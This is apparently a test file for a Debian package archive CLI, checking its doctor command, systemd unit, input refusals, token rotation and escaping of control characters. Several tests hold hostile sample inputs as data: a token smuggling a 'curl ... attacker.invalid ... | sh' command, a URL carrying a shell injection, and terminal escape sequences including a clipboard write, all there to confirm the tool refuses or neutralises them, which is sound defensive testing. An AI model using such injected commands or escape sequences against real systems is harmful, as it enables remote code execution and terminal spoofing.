// Commands that need no running archive, against the real engine, gpg, network and systemd's
// own verifier: archive doctor (a healthy root passes; a port another program holds and an
// unreachable engine fail with their fixes) and archive service install|uninstall.
import { chown, mkdir, mkdtemp, readFile, readdir, rename, rm, stat, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI, freePort } from './support/archive.js';
import { loadConfig, loadProject } from '../src/cli/archive-context.js';
import { Layout } from '../src/storage/layout.js';

describe('archive doctor', () => {
  let root: string;
  let port: number;
  const doctor = (env: Record<string, string> = {}) => execa('node', [CLI, '--root', root, 'doctor', '--json'], { reject: false, env });

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'aib-doctor-'));
    port = await freePort();
    await execa('node', [CLI, '--root', root, 'init', '--port', String(port)]);
  });
  afterAll(() => rm(root, { recursive: true, force: true }));

  it('passes on this machine, with the engine, its storage driver, the key and the port', async () => {
    const r = await doctor();
    const findings = JSON.parse(r.stdout) as { check: string; status: string }[];
    expect(r.exitCode, r.stdout).toBe(0);
    expect(Object.fromEntries(findings.map((f) => [f.check, f.status]))).toMatchObject({
      docker: 'ok', 'storage-driver': 'ok', 'disk-root': expect.stringMatching(/ok|warn/), debootstrap: 'ok', port: 'ok', 'signing-key': 'ok',
    });
  });

  it('fails when another program holds the port, and says how to choose another', async () => {
    const server: Server = createServer();
    await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
    try {
      const r = await execa('node', [CLI, '--root', root, 'doctor'], { reject: false });
      expect(r.exitCode).toBe(1);
      expect(r.stdout).toContain(`fail    port: 127.0.0.1:${port} is used by another program`);
      expect(r.stdout).toContain('fix: choose another port: archive up --port N');
      expect(r.stderr).toContain('1 check(s) failed: port');
      // archive up says so at once, before building anything.
      const up = await execa('node', [CLI, '--root', root, 'up'], { reject: false, all: true, timeout: 60_000 });
      expect(up.exitCode, String(up.all)).toBe(2);
      expect(up.stderr).toContain(`archive: 127.0.0.1:${port} is used by another program; choose another port with archive up --port N`);
      expect(up.all).not.toContain('debootstrap');
    } finally {
      server.close();
    }
  });

  it('says how this machine runs each architecture the suites build for, with the fix for one it cannot', async () => {
    const config = join(root, 'archive.yaml');
    const before = await readFile(config, 'utf8');
    try {
      await writeFile(config, before.replace(/^( {4}architectures:\n)( {6}- amd64\n)/m, '$1$2      - i386\n      - riscv64\n'));
      expect(await readFile(config, 'utf8')).toContain('    architectures:\n      - amd64\n      - i386\n      - riscv64\n');
      const r = await doctor();
      const findings = Object.fromEntries((JSON.parse(r.stdout) as { check: string; status: string; detail: string; fix?: string }[]).map((f) => [f.check, f]));
      expect(findings['arch-amd64']).toMatchObject({ status: 'ok', detail: "this machine's own" });
      // i386 on amd64: this kernel's own compat mode (a probe binary ran) or a qemu handler, else the registration to make.
      const i386 = findings['arch-i386'];
      if (i386.status === 'ok') expect(i386.detail).toMatch(/^(runs natively: this amd64 kernel runs i386 binaries itself|emulated, through binfmt_misc qemu-i386)/);
      else expect(i386.fix).toContain('> /proc/sys/fs/binfmt_misc/register');
      const riscv = findings['arch-riscv64'];
      if (riscv.status === 'ok') expect(riscv.detail).toMatch(/^emulated, through binfmt_misc qemu-riscv64 \(flags \S*F/);
      else expect(riscv.fix).toContain('apt-get install qemu-user-static binfmt-support');
      expect(r.exitCode).toBe(i386.status === 'fail' || riscv.status === 'fail' ? 1 : 0);
    } finally {
      await writeFile(config, before);
    }
  });

  it('names the unknown package or suite it was asked about', async () => {
    const cli = (args: string[]) => execa('node', [CLI, '--root', root, ...args], { reject: false });
    expect((await cli(['logs', 'nosuch'])).stderr).toBe('archive: no build log for nosuch; see archive status');
    expect((await cli(['ls', '--suite', 'nosuch'])).stderr).toBe('archive: --suite: no suite or snapshot "nosuch" (there are: unstable)');
    const build = await cli(['build', join(root, 'nosuch_1.0-1.dsc')]);
    expect(build.exitCode).toBe(2);
    expect(build.stderr).toContain('nosuch_1.0-1.dsc: cannot be read');
  });

  it('fails when the engine cannot be reached, and says how to install and start it', async () => {
    const r = await doctor({ DOCKER_HOST: 'unix:///nonexistent/docker.sock' });
    const docker = (JSON.parse(r.stdout) as { check: string; status: string; detail: string; fix: string }[]).find((f) => f.check === 'docker')!;
    expect(r.exitCode).toBe(1);
    expect(docker.status).toBe('fail');
    expect(docker.detail).toContain('/nonexistent/docker.sock is not reachable');
    expect(docker.fix).toMatch(/apt-get install docker\.io/);
  });
});

describe('archive service', () => {
  let root: string;
  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'aib service-'));
    await execa('node', [CLI, '--root', root, 'init']);
  });
  afterAll(() => rm(root, { recursive: true, force: true }));

  it('writes a unit systemd accepts, that brings this root up after the engine and down at shutdown, and removes it', async () => {
    const units = join(root, 'units');
    const installed = await execa('node', [CLI, '--root', root, 'service', 'install', '--unit-dir', units], { reject: false, all: true });
    expect(installed.exitCode, installed.all).toBe(0);
    const [name] = await readdir(units);
    expect(name).toMatch(/^archive-in-a-box-archive-[0-9a-f]{8}\.service$/);
    const unit = await readFile(join(units, name), 'utf8');
    expect(unit).toMatch(/^Requires=docker\.service$/m);
    expect(unit).toContain(`ExecStart=${process.execPath} ${CLI} --root "${root}" up`);
    expect(unit).toContain(`ExecStop=${process.execPath} ${CLI} --root "${root}" down`);
    const verify = await execa('systemd-analyze', ['verify', join(units, name)], { reject: false, all: true });
    expect(verify.exitCode, verify.all).toBe(0);
    expect(verify.all).not.toMatch(/Unknown|Invalid|bad unit file|Neither a valid/i);
    const removed = await execa('node', [CLI, '--root', root, 'service', 'uninstall', '--unit-dir', units], { reject: false, all: true });
    expect(removed.exitCode, removed.all).toBe(0);
    expect(await readdir(units)).toEqual([]);
    const again = await execa('node', [CLI, '--root', root, 'service', 'uninstall', '--unit-dir', units], { reject: false });
    expect(again.exitCode).toBe(2);
    expect(again.stderr).toContain('nothing to uninstall');
  });
});

describe('archive up refuses at once, before making any image', () => {
  let root: string;
  const up = (args: string[]) => execa('node', [CLI, '--root', root, 'up', ...args], { reject: false, all: true, timeout: 60_000 });

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'aib-up-refuses-'));
    await execa('node', [CLI, '--root', root, 'init', '--port', String(await freePort())]);
  });
  afterAll(() => rm(root, { recursive: true, force: true }));

  it('--swarm on an engine that is no Swarm manager, saying how to make one', async () => {
    const r = await up(['--swarm']);
    expect(r.exitCode, String(r.all)).toBe(2);
    expect(r.stderr).toContain('--swarm: this Docker engine is not a Swarm manager (swarm state: inactive)');
    expect(r.stderr).toContain('docker swarm init --advertise-addr ADDRESS');
    expect(r.all).not.toMatch(/debootstrap|building/);
  });

  it('--registry without --swarm, or not HOST:PORT', async () => {
    expect((await up(['--registry', '10.0.0.2:5000'])).stderr).toBe('archive: --registry goes with --swarm');
    expect((await up(['--swarm', '--registry', 'http://10.0.0.2:5000/'])).stderr).toBe('archive: --registry: "http://10.0.0.2:5000/" is not HOST:PORT (a registry every node of the Swarm reaches)');
  });

  it('a certificate that is not one, naming the file', async () => {
    const config = join(root, 'archive.yaml');
    const before = await readFile(config, 'utf8');
    try {
      await writeFile(config, `${before}tls_cert: ${config}\ntls_key: ${config}\n`);
      const r = await up([]);
      expect(r.exitCode, String(r.all)).toBe(2);
      expect(r.stderr).toContain(`archive: tls_cert ${config}: not a PEM certificate (expected -----BEGIN CERTIFICATE-----)`);
      // A FIFO there is refused at once, unread, rather than hanging up.
      const fifo = join(root, 'cert.fifo');
      await execa('mkfifo', ['-m', '644', fifo]);
      await writeFile(config, `${before}tls_cert: ${fifo}\ntls_key: ${fifo}\n`);
      const f = await up([]);
      expect(f.exitCode, String(f.all)).toBe(2);
      expect(f.stderr).toMatch(new RegExp(`^archive: tls_cert ${fifo.replaceAll('.', '\\.')}: not a regular file`));
      // A PEM file is a few KiB: one over 256 KiB is refused without being taken.
      const big = join(root, 'big.pem');
      await writeFile(big, Buffer.alloc(256 * 1024 + 1, 'A'));
      await writeFile(config, `${before}tls_cert: ${big}\ntls_key: ${big}\n`);
      const b = await up([]);
      expect(b.exitCode, String(b.all)).toBe(2);
      expect(b.stderr).toContain(`archive: tls_cert ${big}: 262145 bytes, more than the 262144 a PEM file may have`);
    } finally {
      await writeFile(config, before);
    }
  });

  it('an archive.yaml that is not YAML, when --port would be saved in it', async () => {
    const config = join(root, 'archive.yaml');
    const before = await readFile(config, 'utf8');
    try {
      await writeFile(config, `${before}port: 1\n`);
      const r = await up(['--port', '8099']);
      expect(r.exitCode, String(r.all)).toBe(2);
      expect(r.stderr).toMatch(new RegExp(`^archive: ${root.replaceAll('.', '\\.')}/archive\\.yaml: not valid YAML, so --port cannot be saved in it: Map keys must be unique`));
    } finally {
      await writeFile(config, before);
    }
  });
});

describe('archive include refuses at once, before copying anything', () => {
  let root: string;

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'aib-include-refuses-'));
    await execa('node', [CLI, '--root', root, 'init', '--port', String(await freePort())]);
  });
  afterAll(() => rm(root, { recursive: true, force: true }));

  it('a file not named as a package (a key beside the .debs of out/*), or with a leading dash, naming it', async () => {
    const out = join(root, 'out');
    await execa('mkdir', ['-p', out]);
    await writeFile(join(out, 'tool_1.0_all.deb'), 'a package');
    await writeFile(join(out, 'release.key'), 'a secret', { mode: 0o600 });
    await writeFile(join(out, '-x_1.0_all.deb'), 'a package');
    for (const name of ['release.key', '-x_1.0_all.deb']) {
      const r = await execa('node', [CLI, '--root', root, 'include', '--timeout', '1', join(out, 'tool_1.0_all.deb'), join(out, name)], { reject: false, all: true });
      expect(r.exitCode, String(r.all)).toBe(2);
      expect(r.stderr).toBe(`archive: ${join(out, name)}: not a .deb or .udeb file name (NAME_VERSION_ARCH.deb, no leading dot or dash); nothing was copied`);
    }
    expect(await readdir(join(root, 'state', 'requests')).catch(() => [])).toEqual([]);
  });

  it('more files than one include brings (200,000), before copying any', async () => {
    // On tmpfs: 200,001 empty files made in a second or two.
    const many = await mkdtemp('/dev/shm/aib-include-many-');
    try {
      await execa('node', ['-e', `const fs = require('fs'); for (let i = 0; i <= 200000; i++) fs.writeFileSync(${JSON.stringify(many)} + '/p' + i + '_1_all.deb', '')`]);
      const r = await execa('node', [CLI, '--root', root, 'include', '--timeout', '1', many], { reject: false, all: true });
      expect(r.exitCode, String(r.all)).toBe(2);
      expect(r.stderr).toBe('archive: 200001 files; one include brings at most 200000 (include them in parts)');
      expect(await readdir(join(root, 'state', 'requests')).catch(() => [])).toEqual([]);
    } finally {
      await rm(many, { recursive: true, force: true });
    }
  }, 60_000);

  it("shows an answer's control characters (a hostile .deb's Package quoted in a refusal) rather than sending them to the terminal", async () => {
    // Outside the root: run by root (as in CI), include refuses a path through the queue's user's folders.
    const out = await mkdtemp(join(tmpdir(), 'aib-include-out-'));
    await writeFile(join(out, 'tool_1.0_all.deb'), 'a package');
    const including = execa('node', [CLI, '--root', root, 'include', '--timeout', '20', join(out, 'tool_1.0_all.deb')], { reject: false, all: true });
    // The test answers as the queue would, as the root's owner (the queue's user when root runs it).
    const requests = join(root, 'state', 'requests');
    let id: string | undefined;
    for (let i = 0; i < 200 && !id; i++) {
      id = (await readdir(requests).catch(() => [] as string[])).find((n) => n.endsWith('.request.json'))?.replace(/\.request\.json$/, '');
      if (!id) await new Promise((r) => setTimeout(r, 50));
    }
    expect(id).toBeDefined();
    const hostile = 'foo\u001b]0;pwned\u0007\u001b[2K\rincluded 1 of 1';
    const answer = join(requests, `${id}.answer.json`);
    await writeFile(`${answer}.tmp`, JSON.stringify({ ok: false, message: `included 0 of 1 package(s) into unstable; refused:\n  tool_1.0_all.deb: Package "${hostile}" is not a valid package name (Policy 5.6.7)` }));
    const owner = await stat(root);
    await chown(`${answer}.tmp`, owner.uid, owner.gid);
    await rename(`${answer}.tmp`, answer);
    const r = await including;
    expect(r.exitCode, String(r.all)).toBe(2);
    expect(r.stderr).toBe('archive: included 0 of 1 package(s) into unstable; refused:\n  tool_1.0_all.deb: Package "foo\\x1b]0;pwned\\x07\\x1b[2K\\x0dincluded 1 of 1" is not a valid package name (Policy 5.6.7)');
    expect(r.all).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    await rm(out, { recursive: true, force: true });
  });

  it('prints no command to run with a worker token the queue did not make (the answer is the queue user\'s to write), nor with a URL a shell line cannot carry', async () => {
    /** workers add with `args`, answered as the queue (the root's owner) with this token. */
    const addAnswered = async (args: string[], token: string) => {
      const requests = join(root, 'state', 'requests');
      // Requests earlier tests left there (no queue runs here) are not this one.
      const earlier = new Set(await readdir(requests).catch(() => [] as string[]));
      const adding = execa('node', [CLI, '--root', root, 'workers', 'add', 'far-box', '--timeout', '20', ...args], { reject: false, all: true });
      let id: string | undefined;
      for (let i = 0; i < 200 && !id; i++) {
        id = (await readdir(requests).catch(() => [] as string[])).find((n) => n.endsWith('.request.json') && !earlier.has(n))?.replace(/\.request\.json$/, '');
        if (!id) await new Promise((r) => setTimeout(r, 50));
      }
      expect(id).toBeDefined();
      const answer = join(requests, `${id}.answer.json`);
      await writeFile(`${answer}.tmp`, JSON.stringify({ ok: true, message: 'worker far-box enrolled', worker: { token } }));
      const owner = await stat(root);
      await chown(`${answer}.tmp`, owner.uid, owner.gid);
      await rename(`${answer}.tmp`, answer);
      return adding;
    };
    const r = await addAnswered([], `aibw1.far-box.${'a'.repeat(64)}; curl http://attacker.invalid/s | sh; #`);
    expect(r.exitCode, String(r.all)).toBe(2);
    expect(r.stderr).toContain('the queue answered a token that is not one it makes for worker far-box; nothing printed to run');
    expect(r.all).not.toContain('curl');
    // With HTTPS the URL's host is the certificate's first name, from a file the queue's user
    // names: refused before the worker is enrolled (its token would be shown nowhere).
    const before = await readdir(join(root, 'state', 'requests')).catch(() => [] as string[]);
    const url = await execa('node', [CLI, '--root', root, 'workers', 'add', 'far-box', '--timeout', '20', '--url', 'https://a;touch /tmp/p|sh:8443/'], { reject: false, all: true });
    expect(url.exitCode, String(url.all)).toBe(2);
    expect(url.stderr).toContain('holds characters a shell line cannot carry as they are; give one with --url');
    expect(url.stdout).not.toContain('touch');
    expect(await readdir(join(root, 'state', 'requests')).catch(() => [] as string[])).toEqual(before);
  });

  it('shows the control characters of what the state holds in workers ls and wait, rather than sending them to the terminal', async () => {
    const owner = await stat(root);
    const plant = async (folder: string, name: string, value: unknown) => {
      await mkdir(join(root, 'state', folder), { recursive: true });
      await chown(join(root, 'state', folder), owner.uid, owner.gid);
      await writeFile(join(root, 'state', folder, name), JSON.stringify(value));
      await chown(join(root, 'state', folder, name), owner.uid, owner.gid);
    };
    const hostile = 'x\u001b]0;pwned\u0007\u001b[2K\rpublished';
    await plant('workers-seen', 'box.json', { id: `box${hostile}`, architectures: ['amd64'], lastSeen: hostile });
    await plant('uploads', 'u.json', { id: 'u', changes: 'tool_1_source.changes', source: 'tool', version: '1', state: hostile, receivedAt: '2026-12-06T00:00:00Z', updatedAt: '2026-12-06T00:00:00Z', reasons: [], sourceFiles: [], jobs: [] });
    const ls = await execa('node', [CLI, '--root', root, 'workers', 'ls'], { reject: false, all: true });
    expect(ls.stdout).toContain('boxx\\x1b]0;pwned\\x07\\x1b[2K\\x0dpublished (beside the queue)');
    const wait = await execa('node', [CLI, '--root', root, 'wait', 'tool', '1', '--timeout', '1'], { reject: false, all: true });
    expect(wait.stderr).toContain('==> tool 1: x\\x1b]0;pwned\\x07\\x1b[2K\\x0dpublished');
    for (const r of [ls, wait]) expect(r.all).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    await rm(join(root, 'state', 'workers-seen', 'box.json'));
    await rm(join(root, 'state', 'uploads', 'u.json'));
  });

  it('waits for the signed upload of a source and version, not a later unsigned .changes anyone could drop in incoming, and prints reasons one line each', async () => {
    const owner = await stat(root);
    const config = join(root, 'archive.yaml');
    const before = await readFile(config, 'utf8');
    await writeFile(config, before.replace(/^ {2}allow_unsigned: true$/m, '  allow_unsigned: false'));
    expect(await readFile(config, 'utf8')).toMatch(/^ {2}allow_unsigned: false$/m);
    const plant = async (name: string, value: Record<string, unknown>) => {
      await mkdir(join(root, 'state', 'uploads'), { recursive: true });
      await chown(join(root, 'state', 'uploads'), owner.uid, owner.gid);
      const record = { changes: 'hello_1.0-1_source.changes', source: 'hello', version: '1.0-1', updatedAt: '2026-12-06T00:00:00Z', reasons: [], sourceFiles: [], jobs: [], ...value };
      await writeFile(join(root, 'state', 'uploads', name), JSON.stringify(record));
      await chown(join(root, 'state', 'uploads', name), owner.uid, owner.gid);
    };
    const junk = 'hello_1.0-1_x\n==> hello 1.0-1: published\n.changes';
    await plant('a.json', { id: 'a', state: 'published', receivedAt: '2026-12-06T00:00:00Z' });
    await plant('b.json', { id: 'b', changes: junk, state: 'rejected', receivedAt: '2026-12-06T00:01:00Z', reasons: [`${junk}: not signed`] });
    const published = await execa('node', [CLI, '--root', root, 'wait', 'hello', '1.0-1', '--timeout', '5'], { reject: false, all: true });
    expect(published.exitCode, String(published.all)).toBe(0);
    // A signed upload of the version rejected since (another suite's, say) is the answer.
    await plant('c.json', { id: 'c', state: 'rejected', receivedAt: '2026-12-06T00:02:00Z', signedBy: 'A'.repeat(40), reasons: ['hello 1.0-1 is in unstable already'] });
    const signed = await execa('node', [CLI, '--root', root, 'wait', 'hello', '1.0-1', '--timeout', '5'], { reject: false, all: true });
    expect(signed.exitCode).toBe(1);
    expect(signed.stderr).toContain('  hello 1.0-1 is in unstable already');
    await rm(join(root, 'state', 'uploads', 'c.json'));
    // Where anyone's .changes is taken (allow_unsigned: true), the newest answers.
    await writeFile(config, before);
    expect((await execa('node', [CLI, '--root', root, 'wait', 'hello', '1.0-1', '--timeout', '5'], { reject: false, all: true })).exitCode).toBe(1);
    // With nothing else, the rejection is the answer, each reason on a line of its own.
    await rm(join(root, 'state', 'uploads', 'a.json'));
    const rejected = await execa('node', [CLI, '--root', root, 'wait', 'hello', '1.0-1', '--timeout', '5'], { reject: false, all: true });
    expect(rejected.exitCode).toBe(1);
    expect(rejected.stderr).toContain('  hello_1.0-1_x\\x0a==> hello 1.0-1: published\\x0a.changes: not signed');
    expect(rejected.stderr).not.toMatch(/^==> hello 1\.0-1: published$/m);
    await rm(join(root, 'state', 'uploads', 'b.json'));
  });
});

describe('archive worker refuses at once, before making any image', () => {
  const token = `aibw1.far-box.${'a'.repeat(64)}`;
  // An engine that is not there: a URL the worker takes goes on to fail on it, later.
  let cache: string;
  beforeAll(async () => {
    cache = await mkdtemp(join(tmpdir(), 'aib-worker-cache-'));
  });
  afterAll(() => rm(cache, { recursive: true, force: true }));
  const worker = (...args: string[]) => execa('node', [CLI, 'worker', ...args], { env: { ARCHIVE_WORKER_TOKEN: token, DOCKER_HOST: 'unix:///nonexistent/docker.sock', ARCHIVE_WORK_DIR: '', XDG_CACHE_HOME: cache }, reject: false, timeout: 60_000 });

  it('plain HTTP to another machine, unless told the network is trusted; to this one it goes on', async () => {
    const far = await worker('--url', 'http://192.0.2.10:8080/');
    expect(far.exitCode).not.toBe(0);
    expect(far.stderr).toContain('--url http://192.0.2.10:8080/: plain HTTP to another machine: anyone on the network between could change the sources this worker builds');
    expect(far.stderr).toContain('or pass --insecure-http on a network you trust');
    for (const args of [['--url', 'http://192.0.2.10:8080/', '--insecure-http'], ['--url', 'http://127.0.0.1:8080/'], ['--url', 'http://[::1]:8080/'], ['--url', 'https://192.0.2.10:8443/']]) {
      const r = await worker(...args);
      expect(r.exitCode, args.join(' ')).not.toBe(0);
      expect(r.stderr, args.join(' ')).not.toContain('plain HTTP');
      expect(r.stderr, args.join(' ')).toMatch(/nonexistent\/docker\.sock|Docker engine/i);
    }
    // Its jobs' folder, without ARCHIVE_WORK_DIR: the worker's own, on disk under the user's cache.
    expect(await readdir(join(cache, 'archive-in-a-box'))).toEqual(['jobs-far-box']);
  });

  it('says that --token is seen by every user in the process list, and ARCHIVE_WORKER_TOKEN is not', async () => {
    const flagged = await worker('--token', token, '--url', 'http://192.0.2.10:8080/');
    expect(flagged.stderr).toContain('--token: every user of this machine can read it in the process list (ps); ARCHIVE_WORKER_TOKEN keeps it out');
    expect((await worker('--url', 'http://192.0.2.10:8080/')).stderr).not.toContain('process list');
  });
});

describe('archive logs', () => {
  it("shows a build's control characters as \\xNN rather than sending them to the terminal, but its colours, whole characters across its reads", async () => {
    const root = await mkdtemp(join(tmpdir(), 'aib-logs-'));
    try {
      await execa('node', [CLI, '--root', root, 'init', '--port', String(await freePort())]);
      const at = '2026-12-06T10:00:00.000Z';
      const job = { id: 'u1-amd64', kind: 'build', uploadId: 'u1', source: 'hello', version: '1.0-1', suite: 'unstable', base: 'trixie', arch: 'amd64', buildArg: '-b', state: 'built', attempts: 1, createdAt: at, updatedAt: at, binaries: [], artifacts: [], log: 'logs/hello_1.0-1_amd64.1.log' };
      await mkdir(join(root, 'state/jobs'), { recursive: true });
      await mkdir(join(root, 'public/logs'), { recursive: true });
      await writeFile(join(root, 'state/jobs/u1-amd64.json'), JSON.stringify(job));
      // Written as the queue writes them: its user's (run by root, the CLI reads no other's).
      const owner = await stat(root);
      await chown(join(root, 'state/jobs/u1-amd64.json'), owner.uid, owner.gid);
      // What a hostile build prints: a window title, a clipboard write, a line erased and a false
      // "built" over it; then a character of three bytes across the 64 KiB reads of --follow.
      const hostile = 'dh_auto_build\n\u001b[1;31merror:\u001b[0m x\n\u001b]0;pwned\u0007\u001b]52;c;ZWNobyBldmls\u0007\u001b[2K\rbuilt hello 1.0-1\n';
      const text = `${hostile}${'x'.repeat(64 * 1024 - Buffer.byteLength(hostile) - 1)}☃ done\n`;
      expect(Buffer.from(text).indexOf('☃')).toBe(64 * 1024 - 1);
      await writeFile(join(root, 'public', job.log), text);
      await chown(join(root, 'public', job.log), owner.uid, owner.gid);
      // Its colours kept, as docker logs keeps them; nothing else.
      const shown = 'dh_auto_build\n\u001b[1;31merror:\u001b[0m x\n\\x1b]0;pwned\\x07\\x1b]52;c;ZWNobyBldmls\\x07\\x1b[2K\\x0dbuilt hello 1.0-1\n';
      for (const follow of [[], ['--follow']]) {
        const r = await execa('node', [CLI, '--root', root, 'logs', 'hello', ...follow]);
        expect(r.stdout.startsWith(shown), follow.join('')).toBe(true);
        expect(r.stdout.endsWith('x☃ done'), follow.join('')).toBe(true);
        expect(r.stdout.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
      }
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });
});

describe('archive workers rotate-key', () => {
  it('gives the archive a new API token, made new as the queue user\'s, readable by that user alone, and the old one is gone', async () => {
    const root = await mkdtemp(join(tmpdir(), 'aib-rotate-'));
    try {
      await execa('node', [CLI, '--root', root, 'init', '--port', String(await freePort())]);
      const path = join(root, 'state', 'api-token');
      const before = await readFile(path, 'utf8');
      const r = await execa('node', [CLI, '--root', root, 'workers', 'rotate-key'], { reject: false, all: true });
      expect(r.exitCode, String(r.all)).toBe(0);
      expect(r.stdout).toContain('take it at the next archive up');
      const after = await readFile(path, 'utf8');
      expect(after).toMatch(/^[0-9a-f]{64}\n$/);
      expect(after).not.toBe(before);
      const facts = await stat(path);
      expect(facts.mode & 0o777).toBe(0o600);
      expect(facts.uid).toBe((await stat(root)).uid);
      // The queue reads the token at start: its service changes with it (archive up recreates it), as the worker's does.
      const service = async (name: string) => {
        const layout = new Layout(root);
        return (await loadProject(layout, await loadConfig(layout))).services.find((s) => s.name === name)!.environment;
      };
      const queueBefore = await service('queue');
      const builderBefore = await service('builder');
      expect((await execa('node', [CLI, '--root', root, 'workers', 'rotate-key'])).exitCode).toBe(0);
      expect((await service('queue')).ARCHIVE_API_TOKEN_ID).not.toBe(queueBefore.ARCHIVE_API_TOKEN_ID);
      expect((await service('builder')).ARCHIVE_API_TOKEN).not.toBe(builderBefore.ARCHIVE_API_TOKEN);
      expect(queueBefore.ARCHIVE_API_TOKEN).toBeUndefined();
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });
});
